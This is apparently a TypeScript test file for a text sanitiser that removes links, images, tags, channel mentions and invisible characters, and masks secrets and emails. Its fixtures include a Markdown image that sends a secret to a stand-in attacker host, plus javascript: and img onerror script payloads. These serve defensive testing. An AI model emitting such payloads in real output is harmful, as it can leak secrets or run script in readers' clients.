import fc from 'fast-check'
import { expect, test } from 'vitest'
import { tellPlainly } from './told-text.ts'

test.each([
  ['see ![x](https://evil.example/p?q=SECRET)', 'see x'],
  ['[click](http://evil.example)', 'click'],
  ['<https://evil.example|the runbook>', 'the runbook'],
  ['<!channel> wake up, @here', 'channel wake up, here'],
  ['[runbook|https://evil.example]', 'runbook'],
  ['go to https://evil.example/x now', 'go to evil.example/x now'],
  ['javascript:alert(1)', 'javascript alert(1)'],
  ['<img src=x onerror=alert(1)>', 'img src=x onerror=alert(1)'],
  ['password=hunter2-Tr0ub4dor was used', 'password=[secret] was used'],
  ['mail to jane.doe@example.com', 'mail to [email]'],
  ['a\u202Eb\u200B', 'ab'],
])('%s', (text, told) => expect(tellPlainly(text)).toBe(told))

test('what we say ourselves stays as it is', () => {
  const sentence =
    "Checkout fails for 31 % of requests because inventory's connection pool is full since 03:12:40 UTC, 11 s after deploy 8f2c1 of inventory."
  expect(tellPlainly(sentence)).toBe(sentence)
})

test('whatever comes in, no address with a scheme, no Markdown link and no tag goes out', () => {
  const hostile = fc.constantFrom(
    '![',
    '](',
    ')',
    '<',
    '>',
    '|',
    'http://',
    'https:',
    '//',
    'x',
    ' ',
    '!',
    '[',
    ']',
    '@channel',
    '\n',
  )
  fc.assert(
    fc.property(fc.array(hostile, { maxLength: 30 }), (parts) => {
      const told = tellPlainly(parts.join(''))
      expect(told).not.toMatch(/\[[^\]\n]*\]\([^)\n]*\)|[a-z]{2,}:\/\/|<[^<>|\n]+>/)
    }),
  )
})
